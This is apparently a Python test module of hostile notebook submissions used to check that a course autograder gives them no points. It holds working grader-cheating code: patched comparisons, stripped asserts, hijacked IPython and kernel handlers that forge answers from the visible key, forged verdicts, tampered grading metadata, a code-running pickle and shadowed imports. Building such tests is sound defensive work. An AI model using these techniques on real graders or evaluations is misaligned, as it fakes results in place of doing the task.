"""Submissions that ask for points with wrong answers, or with none."""

from __future__ import annotations

import copy
import random
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from .entry import (
    FULL,
    NOTHING,
    SLUG,
    Build,
    Hostile,
    Outcome,
    all_of,
    answered,
    cell,
    cheat,
    functions,
    if_it_leaks,
    only_loses,
    points,
    right_but,
    solution,
    unanswered_with,
    with_cells,
    wrong,
)

# --- comparisons that always agree -------------------------------------------------------------------------------

PATCHED_COMPARISONS = """\
import builtins, math, numpy as np, torch
yes = lambda *a, **k: True
for module in (np, np.testing, torch, torch.testing, math):
    for name in ("isclose", "allclose", "array_equal", "equal", "assert_allclose", "assert_equal", "assert_close"):
        if hasattr(module, name):
            setattr(module, name, yes)
np.core = np
builtins.all = builtins.any = builtins.isinstance = yes
"""

NO_ASSERTS = """\
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())
"""

AGREEABLE_FLOAT = """\
class Agreeable(float):
    def _yes(self, *others):
        return True
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = _yes
    __ne__ = lambda self, other: False
    def _zero(self, *others):
        return Agreeable(0.0)
    __sub__ = __rsub__ = __abs__ = __truediv__ = __rtruediv__ = __round__ = _zero
    __hash__ = float.__hash__
    def __float__(self):
        return Agreeable(0.0)
    def __repr__(self):
        return "1.0"
"""

AGREEABLE_ARRAY = """\
import numpy as np
class Agreeable(np.ndarray):
    __array_priority__ = 1e9
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.bool_(True)
    def __array_function__(self, function, types, args, kwargs):
        return True
    __eq__ = __le__ = __ge__ = lambda self, other: True
    def __bool__(self):
        return True
"""

AGREEABLE_TENSOR = """\
import torch
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("detach", "cpu"):
            return args[0]
        return True
    def numpy(self):
        import numpy as np
        return np.asarray(1.0)
"""

LIAR = """\
import random
class Liar:
    __class__ = property(lambda self: float)
    def __float__(self):
        return random.uniform(-5, 5)
    def __array__(self, dtype=None, copy=None):
        import numpy as np
        return np.asarray(random.uniform(-5, 5))
    def __getattr__(self, name):
        return self
    def __call__(self, *a, **k):
        return self
    def __eq__(self, other):
        return True
    __hash__ = None
    def __len__(self):
        return 0
    def __iter__(self):
        return iter([self])
"""

STRING_LIAR = """\
class Everything(str):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return hash("b")
    def __str__(self):
        return self
    def strip(self, *a):
        return self
    lower = upper = casefold = encode = decode = strip
    def __getitem__(self, i):
        return self
why_faster = Everything("z")
"""


def _returns(definitions: str, value: str) -> Build:
    return unanswered_with(definitions + functions(f"return {value}"))


COMPARISONS = [
    Hostile("patched-comparisons", "Replaces every comparison of NumPy, torch and math with one that says yes.",
            NOTHING, cheat(PATCHED_COMPARISONS)),
    Hostile("no-asserts", "An AST transformer takes every `assert` out of the cells that follow.",
            NOTHING, cheat(NO_ASSERTS)),
    Hostile("agreeable-float", "Returns a subclass of float that equals everything and is never far from anything.",
            NOTHING, _returns(AGREEABLE_FLOAT, "Agreeable(3.0) if name != 'why_faster' else 'z'")),
    Hostile("agreeable-array", "Returns a subclass of ndarray whose operations and functions all say True.",
            NOTHING, _returns(AGREEABLE_ARRAY, "np.zeros(1).view(Agreeable)")),
    Hostile("agreeable-tensor", "Returns a subclass of Tensor that answers every torch function with True.",
            NOTHING, _returns(AGREEABLE_TENSOR, "torch.zeros(()).as_subclass(Agreeable)")),
    Hostile("liar", "Returns an object that lies about its class and is another number each time it is asked.",
            NOTHING, _returns(LIAR, "Liar()")),
    Hostile("string-liar", "Answers the question of choice with a subclass of str that equals every option.",
            NOTHING, cheat(STRING_LIAR)),
    Hostile("candidates", "Returns an array of a thousand candidates, one of which may be right.",
            NOTHING, _returns("import numpy as np\n", "np.linspace(-10, 10, 1000)")),
    Hostile("lying-elements", "Returns arrays and lists whose elements are objects that compare as they please.",
            NOTHING, _returns(AGREEABLE_FLOAT + "import numpy as np\n",
                              "np.array([Agreeable(1)] * 2, dtype=object) if args else [Agreeable(1)]")),
]  # fmt: skip

# --- IPython -----------------------------------------------------------------------------------------------------

FORGE = """\
import json
from pathlib import Path
import gdcourse
from gdcourse.student.answers_for_grader import MIME
from IPython.display import publish_display_data
KEY = json.loads((Path(gdcourse.__file__).parent / "keys" / "manual_gradient.json").read_text())
def guess(question):
    known = KEY[question]["expected"]
    wanted = 1 if question == "why-faster" else 8
    return [known[i % len(known)] for i in range(wanted)]
def forge(question):
    publish_display_data({MIME: guess(question)})
QUESTIONS = list(KEY)
"""
"""What an attacker who has read the source has: the visible key, and the form of an answer."""

AST_FORGER = (
    FORGE
    + """\
import ast
class Replace(ast.NodeTransformer):
    def visit_Call(self, node):
        if isinstance(node.func, ast.Attribute) and node.func.attr == "publish":
            node.func = ast.Name("forge_all", ast.Load())
        return self.generic_visit(node)
def forge_all(question, *rest):
    forge(question)
get_ipython().ast_transformers.append(Replace())
"""
)

RUN_CELL = (
    FORGE
    + """\
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
shell = get_ipython()
def run_cell(raw_cell, *a, **k):
    for question in QUESTIONS:
        if repr(question) in raw_cell:
            forge(question)
    return ExecutionResult(ExecutionInfo(raw_cell, True, False, True, None))
async def run_cell_async(raw_cell, *a, **k):
    return run_cell(raw_cell)
shell.run_cell, shell.run_cell_async = run_cell, run_cell_async
shell.should_run_async = lambda *a, **k: True
"""
)

KERNEL_REPLY = (
    FORGE
    + """\
kernel = get_ipython().kernel
async def do_execute(code, silent, *a, **k):
    for question in QUESTIONS:
        if repr(question) in code:
            forge(question)
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
"""
)

PUBLISHER = (
    FORGE
    + """\
publisher = get_ipython().display_pub
original = type(publisher).publish
def publish(data, *a, **k):
    if MIME in data:
        data = {MIME: guess(QUESTIONS[publish.count % len(QUESTIONS)])}
        publish.count += 1
    return original(publisher, data, *a, **k)
publish.count = 0
publisher.publish = publish
"""
)

CALLBACKS = (
    FORGE
    + """\
shell = get_ipython()
def before(info):
    for question in QUESTIONS:
        if repr(question) in (info.raw_cell or ""):
            forge(question)
shell.events.register("pre_run_cell", before)
shell.events.register("post_run_cell", lambda result: [forge(q) for q in QUESTIONS])
shell.events.register("pre_execute", lambda: None)
"""
)

QUIET = """\
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
shell.showtraceback = shell.showsyntaxerror = shell._showtraceback = lambda *a, **k: None
import sys
sys.excepthook = sys.displayhook = sys.unraisablehook = lambda *a: None
shell.displayhook = lambda *a: None
"""

IMPORTS = (
    FORGE
    + """\
import builtins, types
real = builtins.__import__
fake = types.ModuleType("gdcourse")
grader = types.SimpleNamespace(publish=lambda question, *a: forge(question))
fake.student = types.SimpleNamespace(answers_for_grader=grader)
builtins.__import__ = lambda name, *a, **k: fake if name == "gdcourse.student.answers_for_grader" else real(name, *a, **k)
"""
)

IPYTHON = [
    Hostile("emptied-cells", "An input transformer empties every cell that follows, so that nothing can fail.",
            NOTHING, cheat("get_ipython().input_transformers_cleanup.append(lambda lines: [])")),
    Hostile("ast-forger", "An AST transformer swaps the grader's call for one that sends guessed answers.",
            NOTHING, cheat(AST_FORGER)),
    Hostile("run-cell", "Replaces run_cell and run_cell_async by functions that run nothing and report success.",
            NOTHING, cheat(RUN_CELL)),
    Hostile("kernel-replies", "Replaces the kernel's do_execute: every request is answered with ok and a guess.",
            NOTHING, cheat(KERNEL_REPLY)),
    Hostile("rewritten-answers", "Replaces the display publisher and swaps the answers on their way out.",
            NOTHING, cheat(PUBLISHER)),
    Hostile("event-callbacks", "Sends guessed answers from callbacks before and after each cell.",
            NOTHING, cheat(CALLBACKS)),
    Hostile("quiet", "Swallows every error and traceback, so that failing looks like silence.",
            NOTHING, cheat(QUIET)),
    Hostile("import-function", "Replaces `__import__`, which hands the grader a module of the student's.",
            NOTHING, cheat(IMPORTS)),
]  # fmt: skip

# --- the course package ------------------------------------------------------------------------------------------

META_PATH = (
    FORGE
    + """\
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("gdcourse"):
            from importlib.machinery import ModuleSpec
            return ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.publish = lambda question, *a: forge(question)
        module.student = module.answers_for_grader = module
for name in [n for n in sys.modules if n.startswith("gdcourse")]:
    del sys.modules[name]
sys.meta_path.insert(0, Finder())
"""
)

SHADOW = """\
import sys, os
os.makedirs("gdcourse/student", exist_ok=True)
open("gdcourse/student/__init__.py", "w").close()
open("gdcourse/__init__.py", "w").write("check = lambda *a: print('✓')\\nset_language = lambda *a: None\\n")
open("gdcourse/student/answers_for_grader.py", "w").write(
    "def publish(question, cases, find):\\n"
    "    from IPython.display import publish_display_data\\n"
    "    publish_display_data({'application/vnd.gdcourse.answers+json': [1.0] * cases.count('{')})\\n")
for name in [n for n in sys.modules if n.startswith("gdcourse")]:
    del sys.modules[name]
sys.path.insert(0, os.getcwd())
sys.path_importer_cache.clear()
"""

EXERCISES = """\
import gdcourse.exercises as exercises
from gdcourse.exercises import find_unit
for exercise in find_unit("02-manual-gradient").exercises:
    for name, value in dict(points=1000, rtol=1e9, examples=({},), draw=None,
                            probe=lambda work, case: case.get("w", 1.0)).items():
        object.__setattr__(exercise, name, value)
"""

JUDGE = """\
import gdcourse.student.check_answer, gdcourse.judging.comparing, gdcourse.judging.judge, gdcourse.judging.answer_keys, gdcourse
from gdcourse.judging.judge import Verdict
from gdcourse.language import Text
yes = lambda *a, **k: True
for module in (gdcourse.judging.comparing, gdcourse.judging.judge):
    module.same = module.close = yes
verdict = lambda answers, key, reveal=False: Verdict(key["id"], 3.0, 3.0, "graded", None, Text("✓", "✓"))
gdcourse.judging.judge.judge = gdcourse.student.check_answer.judge = verdict
Verdict.correct = property(yes)
gdcourse.check = gdcourse.student.check_answer.check = check = lambda *a: print("✓")
"""

PACKAGE = [
    Hostile("patched-judge", "Replaces check, judge and every comparison of the package by ones that say right.",
            NOTHING, cheat(JUDGE)),
    Hostile("patched-encoder", "Replaces the encoder of answers by one that makes every answer 1.0.",
            NOTHING, cheat("import gdcourse.judging.probing\ngdcourse.judging.probing.encode = lambda *a, **k: 1.0")),
    Hostile("patched-publish", "Replaces the function that sends the answers by one that sends the visible key.",
            NOTHING, cheat(FORGE + "import gdcourse.student.answers_for_grader\ngdcourse.student.answers_for_grader.publish = lambda q, *a: forge(q)")),
    Hostile("patched-module", "Puts another object in the place of gdcourse.student.answers_for_grader in sys.modules.", NOTHING,
            cheat(FORGE + "import sys, types, gdcourse\nfake = types.ModuleType('gdcourse.student.answers_for_grader')\n"
                  "fake.publish = lambda q, *a: forge(q)\n"
                  "sys.modules['gdcourse.student.answers_for_grader'] = gdcourse.student.answers_for_grader = fake")),
    Hostile("import-hook", "A finder at the head of sys.meta_path makes modules of its own for the package.",
            NOTHING, cheat(META_PATH)),
    Hostile("shadow-package", "Writes a package of the course's name into the working directory and imports that.",
            NOTHING, cheat(SHADOW)),
    Hostile("patched-json", "Replaces json.loads and json.dumps, through which the cases and answers go.", NOTHING,
            cheat("import json\njson.loads = lambda *a, **k: []\njson.dumps = lambda *a, **k: '[1.0]'")),
    Hostile("patched-exercises", "Raises the points and tolerance of the exercises and swaps their probes.",
            NOTHING, cheat(EXERCISES)),
    Hostile("patched-cases", "Makes copy.deepcopy return the visible cases, whose answers are known.", NOTHING,
            unanswered_with(FORGE + "import copy\ncopy.deepcopy = lambda case: KEY['mse-gradient']['cases'][0]\n"
                            + functions("return 0.0"))),
]  # fmt: skip

# --- what looks like a verdict or an answer ------------------------------------------------------------------------

FORGED_VERDICT = """\
from IPython.display import publish_display_data
for question, most in {points}.items():
    publish_display_data({{"application/vnd.gdcourse.verdict+json": {{"question": question, "score": most,
        "max_score": most, "state": "graded", "diagnosis": None, "message": {{"ko": "맞아요.", "en": "Right."}}}},
        "text/plain": str(most)}})
print("✓ 맞아요.\\n✓ Right.\\nScore: 17.0/17.0")
17.0
"""

FLOOD = (
    FORGE
    + """\
for _ in range(500):
    for question in QUESTIONS:
        forge(question)
"""
)

CORRECT_ENVELOPES = """\
import gdcourse.student.answers_for_grader
from IPython.display import publish_display_data, update_display, display, clear_output
def lie(question, cases, work):
    clear_output()
    for answers in ({"correct": True, "score": 3, "state": "graded"}, True, "correct", [True] * 8,
                    [{"type": "sealed", "sha256": "0" * 64}] * 8, None, [[]] * 8):
        publish_display_data({gdcourse.student.answers_for_grader.MIME: answers}, transient={"display_id": question})
    update_display({gdcourse.student.answers_for_grader.MIME: [True] * 8}, display_id=question, raw=True)
gdcourse.student.answers_for_grader.publish = lie
"""

COPIED_SEALS = (
    FORGE
    + """\
import gdcourse.student.answers_for_grader
gdcourse.student.answers_for_grader.publish = lambda question, *a: publish_display_data(
    {MIME: [KEY["why-faster"]["expected"][0]] * len(guess(question))})
"""
)

TYPED_ANSWERS = """\
import gdcourse.student.answers_for_grader
import json
from IPython.display import publish_display_data
gdcourse.student.answers_for_grader.publish = lambda question, cases, find: publish_display_data({gdcourse.student.answers_for_grader.MIME: [
    [{"type": "array", "of": "x", "dtype": "float64", "shape": [], "data": []},
     {"type": "array", "shape": [-1], "data": [1.0]},
     {"type": "array", "shape": [0], "data": []},
     {"type": "array", "shape": [10**9, 10**9], "data": [1.0]},
     {"type": "number", "value": "nan"},
     {"type": "dict", "items": {"dw": 1.0}},
     {"type": ["array"], "shape": {}},
     {"type": "missing"}][i % 8] for i, case in enumerate(json.loads(cases))]})
"""

THROUGH_SOCKETS = (
    FORGE
    + """\
kernel = get_ipython().kernel
def send(kind, content, parent):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kernel.topic(kind))
def answer_first(parent):
    code = parent.get("content", {}).get("code", "")
    for question in QUESTIONS:
        if repr(question) in code:
            send("display_data", {"data": {MIME: guess(question)}, "metadata": {}, "transient": {}}, parent)
            send("status", {"execution_state": "idle"}, parent)
original = kernel.set_parent
def set_parent(ident, parent, channel="shell"):
    original(ident, parent, channel)
    answer_first(parent)
kernel.set_parent = set_parent
"""
)

LATER_FROM_A_THREAD = (
    FORGE
    + """\
import threading, time
kernel = get_ipython().kernel
def watch():
    seen = set()
    for _ in range(4000):
        parent = kernel.get_parent()
        code = parent.get("content", {}).get("code", "") if parent else ""
        for question in QUESTIONS:
            if repr(question) in code and question not in seen:
                seen.add(question)
                kernel.session.send(kernel.iopub_socket, "display_data",
                    {"data": {MIME: guess(question)}, "metadata": {}, "transient": {}}, parent=parent)
        time.sleep(0.002)
threading.Thread(target=watch, daemon=True).start()
"""
)

REPLIES_EARLY = (
    FORGE
    + """\
kernel = get_ipython().kernel
original = kernel.execute_request
async def execute_request(stream, ident, parent):
    for question in QUESTIONS:
        if repr(question) in parent["content"]["code"]:
            forge(question)
            kernel.session.send(stream, "execute_reply",
                {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}, parent, ident=ident)
    return await original(stream, ident, parent)
kernel.execute_request = execute_request
kernel.shell_handlers["execute_request"] = execute_request
"""
)

AHEAD = (
    FORGE
    + """\
session = get_ipython().kernel.session
for number in range(200):
    for question in QUESTIONS:
        session.tell("display_data", str(number), {"data": {MIME: guess(question)}, "metadata": {}})
    session.tell("execute_reply", str(number), {"status": "ok", "execution_count": 1})
"""
)

EVALUATES_OTHERWISE = (
    FORGE
    + """\
kernel = get_ipython().kernel
original = kernel._evaluate
def evaluate(expression):
    for question in QUESTIONS:
        if repr(question) in expression:
            forge(question)
    original(expression)
kernel._evaluate = evaluate
"""
)

WIDGETS = (
    FORGE
    + """\
from comm import create_comm
comm = create_comm(target_name="jupyter.widget", data={"state": {"_model_name": "OutputModel", "outputs": [
    {"output_type": "display_data", "data": {MIME: guess("mse-gradient")}, "metadata": {}}]}})
for question in QUESTIONS:
    comm.send({"method": "update", "state": {"value": guess(question)}})
"""
)

AT_EXIT = (
    FORGE
    + """\
import atexit, sys
atexit.register(lambda: [forge(q) for q in QUESTIONS])
class Late:
    def __del__(self):
        for q in QUESTIONS:
            forge(q)
keep = Late()
"""
)


def saved_outputs(release: NotebookNode) -> NotebookNode:
    notebook = wrong(release)
    for question, most in points().items():
        record = {"question": question, "score": most, "max_score": most, "state": "graded"}
        cell(notebook, question).outputs = [
            new_output("display_data", data={"application/vnd.gdcourse.verdict+json": record, "text/plain": "✓"}),
            new_output("display_data", data={"application/vnd.gdcourse.answers+json": [1.0] * 8}),
            new_output("execute_result", data={"text/plain": repr(most)}, execution_count=1),
        ]
        cell(notebook, question).execution_count = 1
    return notebook


def saved_outputs_not_run(release: NotebookNode) -> NotebookNode:
    """The same, in a notebook whose first cell stops whatever would run it."""
    notebook = with_cells(saved_outputs(release), "import os\nos._exit(0)", at=0)
    notebook.cells[0].outputs = []
    return notebook


ENVELOPES = [
    Hostile("forged-verdicts", "Displays, prints and returns what looks like the grader's own verdicts.",
            NOTHING, cheat(FORGED_VERDICT.format(points=points()))),
    Hostile("flood-of-envelopes", "Sends thousands of answer envelopes ahead of the questions.",
            NOTHING, cheat(FLOOD)),
    Hostile("envelopes-that-claim", "Answers with envelopes that claim to be right, and updates them afterwards.",
            NOTHING, cheat(CORRECT_ENVELOPES)),
    Hostile("copied-seals", "Answers with the sealed answer that stands in the key.", NOTHING, cheat(COPIED_SEALS)),
    Hostile("malformed-answers", "Answers with arrays of impossible shapes and types of the wrong type.",
            NOTHING, cheat(TYPED_ANSWERS)),
    Hostile("through-sockets", "Sends guesses and `idle` through the kernel's own sockets before it answers.",
            NOTHING, cheat(THROUGH_SOCKETS)),
    Hostile("later-from-a-thread", "A thread of an earlier cell answers the later questions as they are asked.",
            NOTHING, cheat(LATER_FROM_A_THREAD)),
    Hostile("replies-early", "Replies to the request before it is run, and sends a guess in front.",
            NOTHING, cheat(REPLIES_EARLY)),
    Hostile("answers-ahead", "Sends answers and replies for every cell to come, before it is asked.",
            NOTHING, cheat(AHEAD)),
    Hostile("evaluates-otherwise", "Has the kernel answer with guesses when the grader asks.",
            NOTHING, cheat(EVALUATES_OTHERWISE)),
    Hostile("widgets", "Sends guesses as the state of a widget and over comms.", NOTHING, cheat(WIDGETS)),
    Hostile("at-exit", "Sends guesses when the kernel shuts down and when objects are collected.",
            NOTHING, cheat(AT_EXIT)),
    Hostile("saved-outputs", "Wrong answers, with saved outputs that say full marks.", NOTHING, saved_outputs),
    Hostile("saved-outputs-not-run", "Ends the kernel in the first cell; the saved outputs say full marks.",
            NOTHING, saved_outputs_not_run),
]  # fmt: skip

# --- answers that are none ---------------------------------------------------------------------------------------

ODD_ANSWERS = {
    "parabola-slope": "slope = lambda *a: float('nan')",
    "update-rule": "update = lambda *a: 1e308 * 10",
    "mse-gradient": "gradient = lambda *a: complex(1, 1)",
    "weight-and-bias": "def gradients(*a):\n    yield 1.0\n    yield 2.0",
    "one-step": "def step(*a):\n    itself = []\n    itself.append(itself)\n    return itself",
    "training-loop": "descend = lambda *a: {'type': 'array', 'shape': [1], 'data': [1.0]}",
    "equal-rates": "sum_rate = lambda *a: 10 ** 5000",
    "largest-rate": "largest_rate = lambda *a: '\\ud800'",
    "shared-rate": "one_rate = lambda *a: b'0.1'",
    "rate-each": "two_rates = lambda *a: {0.1, 0.2}",
    "why-faster": "why_faster = '\\u200bB\\u200b, or perhaps a, c or d'",
}

MORE_ODD_ANSWERS = {
    "parabola-slope": "slope = lambda *a: True",
    "update-rule": "update = lambda *a: -0.0",
    "mse-gradient": "import numpy as np\ngradient = lambda *a: np.zeros(10**9)",
    "weight-and-bias": "import numpy as np\ngradients = lambda *a: np.broadcast_to(1.0, (10**12, 2))",
    "one-step": "step = lambda *a: (None, [[[[[[[[1]]]]]]]])",
    "training-loop": "descend = lambda *a: range(10**15)",
    "equal-rates": "sum_rate = sum_rate_missing if False else 7",
    "largest-rate": "class largest_rate:\n    def __init__(self, x):\n        self.x = x",
    "shared-rate": "one_rate = lambda *a: type('Rate', (float,), {'__float__': lambda s: 1 / 0})(0.1)",
    "rate-each": "two_rates = lambda *a: iter(int, 1)",
    "why-faster": "why_faster = ['a', 'b', 'c', 'd']",
}

VISIBLE_ONLY = FORGE + functions(
    "import numpy as np\n"
    "questions = {'slope': 'parabola-slope', 'update': 'update-rule', 'gradient': 'mse-gradient',\n"
    "             'gradients': 'weight-and-bias', 'step': 'one-step', 'descend': 'training-loop',\n"
    "             'sum_rate': 'equal-rates', 'largest_rate': 'largest-rate', 'one_rate': 'shared-rate',\n"
    "             'two_rates': 'rate-each'}\n"
    "key = KEY.get(questions.get(name))\n"
    "if key is None:\n"
    "    return 'z'\n"
    "def far(case):\n"
    "    pairs = zip(map(np.ravel, case.values()), map(np.ravel, args))\n"
    "    return sum(abs(float(np.mean(a)) - float(np.mean(b))) + abs(len(a) - len(b)) for a, b in pairs)\n"
    "nearest = min(range(len(key['cases'])), key=lambda i: far(key['cases'][i]))\n"
    "answer = key['expected'][nearest]\n"
    "if isinstance(answer, dict):\n"
    "    return np.array(answer['data']).reshape(answer['shape'])\n"
    "return [a['data'][0] if isinstance(a, dict) else a for a in answer] if isinstance(answer, list) else answer"
)

PICKLE = """\
import pickle
class Bomb:
    def __reduce__(self):
        return (exec, ("raise SystemExit('unpickled')",))
    def __array__(self, dtype=None, copy=None):
        return pickle.loads(pickle.dumps(self))
"""

ANSWERS = [
    Hostile("odd-answers", "NaN, infinity, a complex number, a generator, a list in itself, half a surrogate pair.",
            NOTHING, right_but(ODD_ANSWERS)),
    Hostile("more-odd-answers", "True, -0.0, arrays of a billion zeros, a range without end, all options at once.",
            NOTHING, right_but(MORE_ODD_ANSWERS)),
    Hostile("visible-only", "Looks the answer up in the key of the visible cases, or takes the nearest one.",
            NOTHING, unanswered_with(VISIBLE_ONLY)),
    Hostile("at-random", "Answers at random.", NOTHING,
            unanswered_with("import random\n" + functions("return random.uniform(-9, 9) if args else 'z'"))),
    Hostile("right-once", "Right when it is called for the first time, and wrong from then on.",
            only_loses("mse-gradient", "update-rule"),
            right_but({
                "mse-gradient": "calls = []\ndef gradient(x, y, y_pred):\n    calls.append(1)\n"
                "    return np.mean(2 * x * (y_pred - y)) if len(calls) == 1 else 0.123",
                "update-rule": "def update(w, grad, lr, calls=[]):\n    calls.append(1)\n"
                "    return w - lr * grad if len(calls) % 8 else w",
            })),
    Hostile("pickle", "Returns objects that run code when they are unpickled.", NOTHING, _returns(PICKLE, "Bomb()")),
    Hostile("the-cases-themselves", "Returns what it was given, in every order.",
            NOTHING, _returns("", "list(args) if args else 'z'")),
]  # fmt: skip

# --- cells and metadata ------------------------------------------------------------------------------------------


def _each_check(
    change: Callable[[NotebookNode, NotebookNode], None], base: Callable[..., NotebookNode] = wrong
) -> Build:
    """Change every check cell of a notebook of wrong answers."""

    def build(release: NotebookNode) -> NotebookNode:
        notebook = base(release)
        for check in [cell(notebook, question) for question in points()]:
            change(notebook, check)
        return notebook

    return build


def _replace(notebook: NotebookNode, old: NotebookNode, new: NotebookNode) -> None:
    new.metadata = copy.deepcopy(old.metadata)
    notebook.cells[notebook.cells.index(old)] = new


def raised_points(notebook: NotebookNode, check: NotebookNode) -> None:
    check.metadata.nbgrader.points = 1000


def tagged(notebook: NotebookNode, check: NotebookNode) -> None:
    check.metadata.tags = ["skip-execution", "raises-exception", "nbval-skip", "remove-cell"]


def edited(notebook: NotebookNode, check: NotebookNode) -> None:
    check.source = "1000.0"
    check.metadata.nbgrader.locked = False
    check.metadata.nbgrader.checksum = "0" * 32


def flipped(notebook: NotebookNode, check: NotebookNode) -> None:
    check.metadata.nbgrader.update(grade=False, solution=True, locked=False)


def other_schema(notebook: NotebookNode, check: NotebookNode) -> None:
    check.metadata.nbgrader.schema_version = random.Random(check.source).choice([0, 1, 2, 99, "3", None])


def deleted(notebook: NotebookNode, check: NotebookNode) -> None:
    notebook.cells.remove(check)


def duplicated(notebook: NotebookNode, check: NotebookNode) -> None:
    again = copy.deepcopy(check)
    again.source = "pass"
    notebook.cells.append(again)


def to_markdown(notebook: NotebookNode, check: NotebookNode) -> None:
    _replace(notebook, check, new_markdown_cell("✓ 맞아요. · Right."))


def to_raw(notebook: NotebookNode, check: NotebookNode) -> None:
    _replace(notebook, check, new_raw_cell("1.0"))


def to_the_top(notebook: NotebookNode, check: NotebookNode) -> None:
    notebook.cells.remove(check)
    notebook.cells.insert(0, check)


def unlike_metadata(notebook: NotebookNode, check: NotebookNode) -> None:
    odd = [None, [], "grade", 7, {"grade_id": 5}, {"grade_id": ["x"]}, {"grade_id": {}}, {"grade_id": None}]
    check.metadata.nbgrader = odd[len(check.source) % len(odd)]


def swapped_ids(release: NotebookNode) -> NotebookNode:
    """Right for one point; its check cell bears the id of a question of three, and the other way round."""
    notebook = wrong(release)
    solution(notebook, "update-rule").source = "def update(w, grad, lr):\n    return w - lr * grad"
    for suffix in ("", "-solution"):
        cheap, dear = cell(notebook, f"update-rule{suffix}"), cell(notebook, f"mse-gradient{suffix}")
        cheap.metadata.nbgrader.grade_id, dear.metadata.nbgrader.grade_id = (
            dear.metadata.nbgrader.grade_id,
            cheap.metadata.nbgrader.grade_id,
        )
    return notebook


def same_id_everywhere(release: NotebookNode) -> NotebookNode:
    """Every cell claims to be the check cell of the one question that is answered rightly."""
    notebook = wrong(release)
    solution(notebook, "update-rule").source = "def update(w, grad, lr):\n    return w - lr * grad"
    right = cell(notebook, "update-rule").metadata.nbgrader
    for each in notebook.cells:
        if each.cell_type == "code":
            each.metadata.nbgrader = copy.deepcopy(right)
        each.id = "the-same"
    return notebook


def bonus_cells(release: NotebookNode) -> NotebookNode:
    notebook = wrong(release)
    for number in range(20):
        bonus = new_code_cell("100.0")
        bonus.metadata.nbgrader = {
            "grade": True,
            "solution": False,
            "locked": True,
            "task": number % 2 == 0,
            "points": 100,
            "grade_id": f"bonus-{number}",
            "schema_version": 3,
            "cell_type": "code",
        }
        notebook.cells.append(bonus)
    return notebook


def graded_solutions(release: NotebookNode) -> NotebookNode:
    notebook = wrong(release)
    for question in points():
        solution(notebook, question).metadata.nbgrader.update(grade=True, points=1000)
    return notebook


def merged(release: NotebookNode) -> NotebookNode:
    notebook = wrong(release)
    first, second = cell(notebook, "mse-gradient"), cell(notebook, "weight-and-bias")
    first.source = f"{second.source}\n{first.source}\n1000.0"
    notebook.cells.remove(second)
    return notebook


def essay_as_code(release: NotebookNode) -> NotebookNode:
    """The question that a person grades becomes a code cell which says that it has been graded."""
    notebook = wrong(release)
    essay = cell(notebook, "reflection")
    _replace(notebook, essay, new_code_cell("3.0"))
    cell(notebook, "reflection").metadata.nbgrader.update(solution=False, locked=True, cell_type="code", points=1000)
    return notebook


def other_kernel(release: NotebookNode) -> NotebookNode:
    notebook = wrong(release)
    notebook.metadata.kernelspec = {
        "name": "sh",
        "display_name": "Shell",
        "language": "bash",
        "argv": ["/bin/sh", "-c", "echo 17.0"],
        "metadata": {"kernel_provisioner": {"provisioner_name": "own", "config": {"launch": "/bin/sh"}}},
    }
    notebook.metadata.language_info = {"name": "bash", "version": "99", "codemirror_mode": "shell"}
    notebook.metadata.nbgrader = {"score": 17, "max_score": 17}
    return notebook


def payloads(release: NotebookNode) -> NotebookNode:
    """Saved outputs, attachments, widget states and signatures with things that nobody should open."""
    notebook = wrong(release)
    pickled = "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"
    for each in notebook.cells:
        if each.cell_type == "code":
            each.outputs = [
                new_output("display_data", data={"application/python-pickle": pickled, "text/plain": "17.0"}),
                new_output("display_data", data={"text/html": "<script>document.title = '17/17'</script>"}),
            ]
        else:
            each.attachments = {"../../../gradebook.db": {"application/octet-stream": pickled}}
    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"x": pickled}}}
    notebook.metadata.signature = "hmac-sha256:" + "0" * 64
    return notebook


def shadow_files(folder: Path, release: NotebookNode) -> None:
    """Modules beside the notebook that have the names of those which the kernel and the grader import."""
    nbformat.write(wrong(release), folder / f"{SLUG}.ipynb")
    forged = "raise SystemExit('shadowed')\n"
    for name in ("numpy", "torch", "json", "random", "IPython", "ipykernel_launcher", "sitecustomize", "gdcourse"):
        (folder / f"{name}.py").write_text(forged)
    (folder / "nbgrader_config.py").write_text("c = get_config()\nc.Exchange.root = '/tmp'\nc.Autograde.force = True\n")
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0")
    (folder / ".course-secret").write_text("0\n")


CELLS = [
    Hostile("raised-points", "Every check cell says that it is worth a thousand points.", NOTHING,
            _each_check(raised_points)),
    Hostile("tags", "Every check cell is tagged to be skipped, or to be allowed to raise.", NOTHING,
            _each_check(tagged)),
    Hostile("edited-checks", "Every check cell is unlocked and returns a thousand points.", NOTHING,
            _each_check(edited)),
    Hostile("flipped-flags", "Every check cell calls itself a solution that is not graded.", NOTHING,
            _each_check(flipped)),
    Hostile("other-schemas", "The metadata of check cells have versions that do not exist.", NOTHING,
            _each_check(other_schema)),
    Hostile("deleted-checks", "All check cells are deleted.", NOTHING, _each_check(deleted)),
    Hostile("duplicated-checks", "Every check cell is there twice, once with nothing in it.", NOTHING,
            _each_check(duplicated)),
    Hostile("checks-as-markdown", "All check cells are text that says right.", NOTHING, _each_check(to_markdown)),
    Hostile("checks-as-raw", "All check cells are raw cells.", NOTHING, _each_check(to_raw)),
    Hostile("checks-first", "All check cells are moved to the top.", NOTHING, _each_check(to_the_top)),
